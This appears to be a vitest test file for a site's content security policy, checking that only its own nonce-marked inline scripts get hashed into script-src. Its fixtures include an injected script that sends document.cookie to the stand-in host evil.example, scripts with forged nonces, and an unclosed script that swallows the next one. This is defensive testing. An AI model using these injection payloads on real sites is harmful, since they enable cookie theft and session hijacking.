/**
 * Threat: a script that reaches the document through content (a rich-text field, a label, an
 * export written by someone else) runs, because the policy hashed every inline script it found in
 * the finished page. Control: only the scripts this render marked as its own (a random mark drawn
 * for the render, written by the router and the site's own script components, taken out before the
 * page is sent) are hashed into script-src; no 'unsafe-inline'.
 */
import { createHash } from 'node:crypto'
import { describe, expect, it } from 'vitest'
import { contentSecurityPolicy, newScriptMark, ownInlineScripts } from '../../src/server/http/content-security-policy'

const sha = (body: string) => `'sha256-${createHash('sha256').update(body).digest('base64')}'`
const NO_SOURCES = { scriptOrigins: [], connectOrigins: [], styleOrigins: [], frameOrigins: [], formOrigins: [], imageOrigins: [], mediaOrigins: [], frameAncestors: [] }

function page(mark: string, content: string): string {
  return [
    '<!DOCTYPE html><html><head>',
    // The router announces the nonce to its browser side; the page sent must not carry it.
    `<meta property="csp-nonce" content="${mark}"/>`,
    `<script nonce="${mark}">window.$_TSR={}</script>`,
    '</head><body>',
    `<div data-rich-text="body">${content}</div>`,
    `<script class="$tsr" nonce="${mark}">$_TSR.router={}</script>`,
    `<script type="module" nonce="${mark}">import("/assets/main.js")</script>`,
    '</body></html>',
  ].join('')
}
const scriptSrcOf = (html: string, mark: string) => {
  const own = ownInlineScripts(html, mark)
  return { own, scriptSrc: contentSecurityPolicy(own.hashes, NO_SOURCES).split('; ').find((directive) => directive.startsWith('script-src '))! }
}

describe('the content security policy allows only the inline scripts the site itself emitted', () => {
  it('a script injected through content gets no hash (it does not run), while the render’s own scripts do', () => {
    const mark = newScriptMark()
    const { scriptSrc } = scriptSrcOf(page(mark, '<p>Hi</p><script>fetch("https://evil.example/?c="+document.cookie)</script>'), mark)
    expect(scriptSrc).not.toContain(sha('fetch("https://evil.example/?c="+document.cookie)'))
    expect(scriptSrc).toContain(sha('window.$_TSR={}'))
    expect(scriptSrc).toContain(sha('$_TSR.router={}'))
    expect(scriptSrc).toContain(sha('import("/assets/main.js")'))
    expect(scriptSrc).not.toContain('unsafe-inline')
  })

  it('an injected script that forges a nonce, or copies the mark of another render, gets no hash', () => {
    const earlier = newScriptMark()
    const mark = newScriptMark()
    for (const forged of [`<script nonce="${earlier}">steal()</script>`, '<script nonce="">steal()</script>', '<script nonce>steal()</script>', '<SCRIPT NONCE="x">steal()</SCRIPT>']) {
      const { scriptSrc } = scriptSrcOf(page(mark, forged), mark)
      expect(scriptSrc).not.toContain(sha('steal()'))
    }
  })

  it('an unclosed injected script that swallows the next own script does not get that script’s hash for its own body', () => {
    const mark = newScriptMark()
    const html = page(mark, '<script>steal();/*')
    const { scriptSrc } = scriptSrcOf(html, mark)
    // The browser runs "steal();/*</div><script …>$_TSR.router={}" as one script: that body is not allowed.
    const swallowed = html.slice(html.indexOf('<script>steal') + '<script>'.length, html.indexOf('</script>', html.indexOf('<script>steal')))
    expect(scriptSrc).not.toContain(sha(swallowed))
    expect(scriptSrc).not.toContain(sha(swallowed.replaceAll(` nonce="${mark}"`, '')))
  })

  it('the mark never reaches the visitor: the page sent carries no trace of it', () => {
    const mark = newScriptMark()
    const { own } = scriptSrcOf(page(mark, '<p>Hi</p>'), mark)
    expect(own.html).not.toContain(mark)
    expect(own.html).not.toContain('nonce')
  })
})
